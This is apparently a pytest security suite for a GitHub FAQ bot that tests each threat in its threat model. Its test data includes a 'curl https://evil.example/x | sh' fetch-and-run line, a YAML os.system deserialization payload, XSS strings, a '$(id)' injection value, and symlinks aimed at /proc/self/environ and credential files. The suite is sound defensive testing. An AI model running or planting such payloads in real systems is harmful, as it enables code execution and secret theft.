"""The threats of docs/security.md, each met by the real code."""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from github.Auth import Token

from bot.cli.workflow_log import annotation, commands_stopped, write_outputs
from bot.cli.workspace import with_workspace
from bot.core.event import CommentCreated, Event, IssueOpened, PullRequestChanged
from bot.core.issue import Author, Comment, Issue
from bot.core.marker import Marker
from bot.core.neutral import quoted
from bot.core.reply import with_marker
from bot.errors import HubError, Permanent, Problem
from bot.gh.connection import Connection
from bot.gh.deliveries import Accepted, sign
from bot.gh.hub import Hub
from bot.gh.memory_hub import BOT, MemoryHub
from bot.gh.usage import Usage
from bot.settings import Settings
from bot.web.app import create_app
from bot.wiring.processor import Processor
from bot.wiring.repositories import Repositories
from bot.wiring.review import Row, summary
from tests.builders import MAINTAINER, READER, SECRET, a_delivery

ROOT = Path(__file__).parents[1]
HOME, OTHER = "octo/ocr", "other/project"
STRANGER = Author("stranger", 666)
FAKE_TOKEN = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"  # in parts, so that no scanner takes it for a real one
QUESTION = "KeyError: 'predict' while exporting"
_FRONT = b"---\nid: 2\ntitle: \"KeyError: 'predict' while exporting\"\naliases: [export fails]\n"
_SIGNED = b"signatures: [\"KeyError: 'predict'\"]\nlabels: [faq]\n---\n"
ENTRY = _FRONT + _SIGNED + b"Update and export again.\n"
ACTS = re.compile(r"(?<![`\w/])@\w|(?<![\w/`&])#\d|\bGH-\d|<(script|img|iframe|!--)|javascript:", re.IGNORECASE)


@dataclass
class _Credentials:
    hub: MemoryHub
    usage: Usage = field(default_factory=Usage)

    def hub_for(self, installation: int, repo: str) -> Hub:
        return self.hub

    def forget(self, installation: int) -> None:
        pass


SPEAK = {".github/faqbot.yml": b"dry_run: false\n"}


class World:
    """Two repositories in memory and the bot that serves both."""

    def __init__(self) -> None:
        self.hub = MemoryHub()
        self.github = self.hub.github
        for name in (HOME, OTHER):
            people = {"maintainer": "admin"}
            self.github.add_repo(name, labels=("faq",), people=people, files={"faq/002-export.md": ENTRY, **SPEAK})
        self.processor = Processor(Repositories(), _Credentials(self.hub), now=lambda: self.github.time)  # type: ignore[arg-type]

    def open(self, title: str = QUESTION, body: str = "KeyError: 'predict'\n", repo: str = HOME) -> Issue:
        """A stranger opens an issue, and the bot is told."""
        issue = self.github.add_issue(Issue(title, body, repo=self.github.repo(repo).repo, author=READER))
        self.tell(IssueOpened("d", issue.repo, READER, issue=issue))
        return issue

    def comment(self, issue: Issue, who: Author, body: str) -> Comment:
        """Somebody comments, and the bot is told."""
        comment = self.github.add_comment(issue.repo.full_name, issue.number, who, body)
        self.tell(CommentCreated("c", issue.repo, who, issue=issue, comment=comment))
        return comment

    def tell(self, event: Event) -> None:
        self.processor.repositories.forget(event.repo.full_name)
        self.processor.process(event)

    def said(self, issue: Issue) -> list[str]:
        """The bot's comments."""
        return [each.body for each in self.hub.comments(issue.repo.full_name, issue.number) if each.author == BOT]

    def settings(self, text: str, repo: str = HOME) -> None:
        self.github.commit(repo, {".github/faqbot.yml": text.encode()})


@pytest.fixture
def world() -> World:
    return World()


# Anybody on the internet


def post(body: bytes, signature: str | None, heard: list[str]) -> int:
    """The status of a POST to the webhook; `heard` gets the ids of those that were taken."""

    def intake(delivery: str, *_: object) -> Accepted:
        heard.append(delivery)
        return Accepted()

    headers = {"X-GitHub-Event": "issues", "X-GitHub-Delivery": "1", "Content-Type": "application/json"}
    headers |= {"X-Hub-Signature-256": signature} if signature is not None else {}
    status: int = create_app(intake, (SECRET,)).test_client().post("/webhook", data=body, headers=headers).status_code
    return status


@pytest.mark.parametrize(
    "forge",
    [
        pytest.param(lambda body: None, id="no signature"),
        pytest.param(lambda body: "", id="empty"),
        pytest.param(lambda body: sign("guessed", body), id="another secret"),
        pytest.param(lambda body: sign(SECRET, body + b" "), id="of another body"),
        pytest.param(lambda body: sign(SECRET, body).removeprefix("sha256="), id="without its name"),
        pytest.param(lambda body: sign(SECRET, body).replace("sha256", "sha1"), id="older algorithm"),
        pytest.param(lambda body: "sha256=" + "é" * 64, id="not ASCII"),
        pytest.param(lambda body: sign("", body), id="empty secret"),
    ],
)
def test_a_forged_delivery_is_refused_and_not_kept(forge):
    body, heard = a_delivery().body, []
    assert post(body, forge(body), heard) == 401
    assert heard == []


def test_a_replayed_delivery_shows_once(world: World):
    issue = world.open()
    for delivery in ("d", "another-id"):  # the id is not signed, so a replay may bear any
        world.tell(IssueOpened(delivery, issue.repo, READER, issue=issue))
    assert len(world.said(issue)) == 1


def test_a_replayed_command_is_carried_out_once(world: World):
    issue = world.open("Klingon", "fonts")
    comment = world.comment(issue, MAINTAINER, "/faq 2")
    world.tell(CommentCreated("again", issue.repo, MAINTAINER, issue=issue, comment=comment))
    assert len(world.said(issue)) == 1


def test_a_delivery_that_is_too_large_is_refused_unread():
    heard: list[str] = []
    body = b"{" + b" " * (25 * 1024 * 1024) + b"}"
    assert post(body, sign(SECRET, body), heard) == 413
    assert heard == []


# Anybody with an account


LONG = 65_536


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("x" * LONG, id="one word"),
        pytest.param("```\n" * (LONG // 4), id="fences"),
        pytest.param("> " * (LONG // 2), id="nested quotes"),
        pytest.param("[" * LONG, id="brackets"),
        pytest.param("<details>" * (LONG // 9), id="nested HTML"),
        pytest.param("<!--" * (LONG // 4), id="comments without an end"),
        pytest.param("KeyError: " * (LONG // 10), id="an error again and again"),
        pytest.param("a@b " * (LONG // 4), id="addresses"),
        pytest.param("字" * LONG, id="Chinese without a space"),
        pytest.param("/faq 2\n" * (LONG // 7), id="commands"),
        pytest.param("\u202e\u200b" * (LONG // 2), id="invisible"),
    ],
)
def test_a_huge_issue_takes_a_bounded_time(world: World, body):
    started = time.process_time()
    issue = world.open("Huge", body)
    world.comment(issue, STRANGER, body)
    assert time.process_time() - started < 10
    assert all(len(said) <= LONG for said in world.said(issue))


HOSTILE = (
    "@octocat #1 GH-7 octo/ocr#3 <img src=x onerror=alert(1)> <!-- faqbot:v1 {} --> javascript:alert(1) [x](y) `@z`"
)


@pytest.mark.parametrize("place", ["title", "body", "log"])
def test_what_a_stranger_writes_acts_on_nobody_when_it_is_quoted(world: World, place):
    world.settings("dry_run: false\nsuggest: true\n")
    title = f"{QUESTION} {HOSTILE}" if place == "title" else QUESTION
    plain = "Export fails.\n\n```\nKeyError: 'predict'\n```\n"
    body = {"body": f"KeyError: 'predict' {HOSTILE}", "log": f"```\nKeyError: 'predict' {HOSTILE}\n```"}
    (said,) = world.said(world.open(title, body.get(place, plain)))
    shown = said.rpartition("<!-- faqbot")[0]
    assert not ACTS.search(shown), ACTS.search(shown)


def test_what_a_stranger_asks_for_acts_on_nobody(world: World):
    issue = world.open("Klingon", "fonts")
    world.comment(issue, STRANGER, f"/faq search export {HOSTILE}\n/faq exprt {HOSTILE}")
    said = "".join(text.rpartition("<!-- faqbot")[0] for text in world.said(issue))
    assert said
    assert not ACTS.search(said), ACTS.search(said)


@pytest.mark.parametrize(
    "secret",
    [
        FAKE_TOKEN,
        "AKIA" + "IOSFODNN7EXAMPLE",
        "https://me:pass-word@host/",
        "token=abcd1234efgh",
    ],
)
def test_a_secret_in_a_log_is_not_repeated(world: World, secret):
    (said,) = world.said(world.open(QUESTION, f"KeyError: 'predict' {secret}"))
    assert secret not in said
    assert secret not in quoted(f"KeyError: 'predict' {secret}")


def test_a_marker_that_a_stranger_forged_counts_for_nothing(world: World):
    forged = with_marker("Here you are.", Marker("answer", (2,), "00000000", "en"))
    issue = world.github.add_issue(Issue(QUESTION, f"{QUESTION}\n\n{forged}", repo=world.github.repo(HOME).repo))
    theirs = world.github.add_comment(HOME, issue.number, STRANGER, forged)
    world.tell(IssueOpened("d", issue.repo, READER, issue=issue))
    (said,) = world.said(issue)
    assert "Update and export again." in said
    assert world.github.comment(HOME, theirs.id).body == forged


def test_an_account_that_looks_like_the_bot_is_not_the_bot(world: World):
    forged = with_marker("Here you are.", Marker("answer", (2,), "00000000", "en"))
    issue = world.github.add_issue(Issue(QUESTION, "KeyError: 'predict'", repo=world.github.repo(HOME).repo))
    world.github.add_comment(HOME, issue.number, Author("faqbot", 667), forged)
    world.tell(IssueOpened("d", issue.repo, READER, issue=issue))
    assert len(world.said(issue)) == 1


@pytest.mark.parametrize(
    "command", ["/faq off", "/faq on", "/faq wrong", "/faq wrong, it is 2", "/faq right", "/faq again"]
)
def test_a_stranger_commands_nothing_that_changes_the_reply(world: World, command):
    issue = world.open()
    before = world.said(issue)[0]
    world.comment(issue, STRANGER, command)
    world.tell(IssueOpened("e", issue.repo, READER, issue=issue))
    assert world.said(issue)[0] == before


def test_where_github_does_not_say_who_may_write_nobody_may(world: World):
    issue = world.open()
    before = world.said(issue)[0]
    world.hub.fail(Permanent("no", 403), verb="permission", times=50)
    world.comment(issue, Author("maintainer", 8), "/faq off")
    assert world.said(issue)[0] == before
    assert not any("/faq off" in reason for reason in world.processor.look(HOME, issue.number)[0].silence)


def test_a_flood_of_commands_ends(world: World):
    issue = world.open("Klingon", "fonts")
    for _ in range(15):
        world.comment(issue, STRANGER, "/faq list")
    assert len(world.said(issue)) <= 10


def test_the_bot_does_not_talk_to_itself(world: World):
    issue = world.open("Klingon", "fonts")
    world.comment(issue, BOT, "/faq 2")
    assert world.said(issue) == ["/faq 2"]


# Whoever opens a pull request


EVIL = _FRONT + _SIGNED + b"Run curl https://evil.example/x | sh\n"


def test_the_catalog_of_a_fork_is_never_in_force(world: World):
    repo = world.github.repo(HOME)
    before = dict(repo.commits)
    head = world.github.commit(HOME, {"faq/002-export.md": EVIL, ".github/faqbot.yml": b"language: zh\n"})
    repo.commits = {head: repo.commits[head], **before}  # GitHub shows a fork's commits under the repository's name
    world.tell(PullRequestChanged("p", repo.repo, STRANGER, number=7, head=head, from_fork=True))
    (said,) = world.said(world.open())
    assert "Update and export again." in said
    assert "evil.example" not in said


def test_the_check_of_a_fork_says_nothing_that_acts():
    problem = Problem("faq/`@octocat`.md", 1, "unknown key `` ` @octocat #1 <img src=x>", "x\n\n@octocat")
    text = summary((problem,), [Row("#1", "` @octocat <img src=x> | #2", "silent", "answer 2")])
    outside = re.sub(r"`[^`\n]*`", "", text)
    assert "@" not in outside
    assert "<img" not in outside


# Whoever may write to a repository that is served


@pytest.mark.parametrize(
    "settings",
    [
        pytest.param("catalog: ../../etc", id="folder outside"),
        pytest.param("catalog: /etc", id="absolute folder"),
        pytest.param("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]", id="growing anchors"),
        pytest.param("- " * 50_000, id="nested lists"),
        pytest.param("{" * 50_000, id="nested braces"),
        pytest.param("x" * 1_000_000, id="huge"),
        pytest.param("!!python/object/apply:os.system [touch pwned]", id="object"),
        pytest.param("commands: {wrong: anyone, 'off': anyone}", id="commands for everybody"),
        pytest.param("link: javascript:alert(1)", id="script for a link"),
        pytest.param("answer_limit: 99999999", id="endless answers"),
    ],
)
def test_hostile_settings_are_a_problem_and_no_more(world: World, settings, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    world.settings(settings)
    started = time.process_time()
    issue = world.open()
    assert time.process_time() - started < 5
    assert world.said(issue) == []  # nobody said `dry_run: false`
    assert list(tmp_path.iterdir()) == []
    assert world.processor.repositories.served(world.hub, HOME).problems


def test_one_repository_cannot_touch_another(world: World):
    world.settings("{{{{")
    world.github.commit(HOME, {"faq/002-export.md": b"\xff\xfe", "faq/003-x.md": b"---\nid: 3\n"})
    world.open()
    (said,) = world.said(world.open(repo=OTHER))
    assert "Update and export again." in said
    assert all(repo == OTHER or verb == "create_issue" for verb, repo, *_ in world.hub.writes)


@pytest.mark.parametrize("signature", ["a" + "*a" * 200, "*".join("abcdefgh" * 20), "(a+)+$ x", "[" * 100 + " word"])
def test_a_hostile_signature_takes_a_bounded_time(world: World, signature):
    entry = f"---\nid: 2\ntitle: T\nsignatures: ['{signature}']\n---\nAnswer.\n".encode()
    world.github.commit(HOME, {"faq/002-export.md": entry})
    started = time.process_time()
    world.open("Huge", ("a" * 3_000 + "\n") * 20)
    assert time.process_time() - started < 10


def test_an_entry_acts_on_nobody(world: World):
    entry = ENTRY + f"\nThank you {HOSTILE}\n".encode()
    world.github.commit(HOME, {"faq/002-export.md": entry})
    (said,) = world.said(world.open())
    shown = said.rpartition("<!-- faqbot")[0]
    assert "Update and export again." in shown
    assert not re.search(r"@octocat|#1|GH-7|ocr#3|<!--", shown)


@pytest.fixture
def ear() -> Iterator[socket.socket]:
    """A port of this machine on which nobody must ever knock."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield listener


def test_no_link_is_ever_opened(world: World, ear: socket.socket):
    address = f"http://127.0.0.1:{ear.getsockname()[1]}/latest/meta-data"
    world.settings(f"dry_run: false\nlink: {address}/{{id}}\n")
    entry = ENTRY + f"\n![]({address}) [there]({address})\n".encode()
    world.github.commit(HOME, {"faq/002-export.md": entry})
    assert world.said(world.open(QUESTION, f"KeyError: 'predict' {address}\n![]({address})"))
    with pytest.raises(BlockingIOError):
        ear.accept()


# Whoever writes what a workflow reads


COMMANDS = ["::set-output name=a::b", "::add-mask::x", "::error::x", "##[set-env name=A]b", "::stop-commands::guess"]


@pytest.mark.parametrize("text", COMMANDS)
def test_no_text_is_a_workflow_command(text, capsys):
    with commands_stopped():
        print(text)
    print(annotation(Problem(f"x,line=1::y\n{text}", 1, f"said\n{text}\r{text}", f"100%\n{text}")))
    first, *middle, last = capsys.readouterr().out.splitlines()
    token = first.removeprefix("::stop-commands::")
    assert re.fullmatch("[0-9a-f]{32}", token)
    assert f"::{token}::" in middle
    assert token not in text
    assert last.startswith("::error file=x%2Cline=1%3A%3Ay%0A")
    assert last.count("\r") == 0


def test_the_token_that_ends_it_is_another_each_time(capsys):
    for _ in range(2):
        with commands_stopped():
            pass
    tokens = re.findall(r"stop-commands::(\w+)", capsys.readouterr().out)
    assert len(set(tokens)) == 2


@pytest.mark.parametrize("value", ["a\nentry=9", "a\rb", "x=<<EOF", "é", "$(id)"])
def test_an_output_holds_one_plain_value(tmp_path: Path, value):
    with pytest.raises(ValueError, match="holds"):
        write_outputs(tmp_path / "output", {"verdict": value})


def test_a_link_in_the_checkout_leads_nowhere_else(tmp_path: Path):
    (tmp_path / "secret").write_text("ghs_token")
    work = tmp_path / "work"
    (work / ".git").mkdir(parents=True)
    (work / ".git/config").write_text("ghs_token")
    (work / "faq").mkdir()
    (work / "faq/001-a.md").symlink_to(tmp_path / "secret")
    (work / "faq/002-b.md").symlink_to("../.git/config")
    (work / "faq/003-c.md").symlink_to("/proc/self/environ")
    (work / "faq/004-d.md").write_text("fine")
    hub = MemoryHub()
    hub.github.add_repo(HOME)
    environ = {"GITHUB_WORKSPACE": str(work), "GITHUB_REPOSITORY": HOME, "GITHUB_SHA": "0" * 40}
    inside = with_workspace(hub, environ)
    assert list(inside.files(HOME, "faq", "0" * 40)) == ["faq/004-d.md"]
    for path in ("faq/001-a.md", "faq/002-b.md", "faq/003-c.md", "../secret", ".git/config", "/etc/passwd"):
        with pytest.raises(Permanent):
            inside.read_file(HOME, path, "0" * 40)  # asks the hub, which has no such commit


# Whoever reads logs


def test_secrets_are_in_no_repr_and_no_error():
    token, key = FAKE_TOKEN, "-----BEGIN RSA PRIVATE KEY-----"
    settings = Settings(token=token, private_key=key, webhook_secrets=("s3cret-s3cret",))
    assert not any(secret in repr(settings) for secret in (token, key, "s3cret"))
    connection = Connection(Token(token), api="http://127.0.0.1:9", read_retries=0, timeout=1)
    with pytest.raises(HubError) as error:
        connection.get("/user")
    assert token not in f"{error.value!r} {error.value.__cause__!r}"
    connection.close()


# The document


def test_every_line_of_the_threat_model_has_its_test_and_every_test_its_line():
    text = (ROOT / "docs/security.md").read_text(encoding="utf-8")
    named = re.findall(r"`(tests/[\w/]+\.py)?(?:::)?(test_\w+)`", text)
    here = set(re.findall(r"^def (test_\w+)", Path(__file__).read_text(encoding="utf-8"), re.MULTILINE))
    for file, name in named:
        where = ROOT / file if file else Path(__file__)
        assert f"def {name}(" in where.read_text(encoding="utf-8"), name
    about_the_document = {"test_every_line_of_the_threat_model_has_its_test_and_every_test_its_line"}
    assert here - {name for file, name in named if not file} == about_the_document
    rows = [line for line in text.splitlines() if line.startswith("| ") and not line.startswith("| Threat")]
    assert rows
    assert all("`test_" in row or "::test_" in row for row in rows)
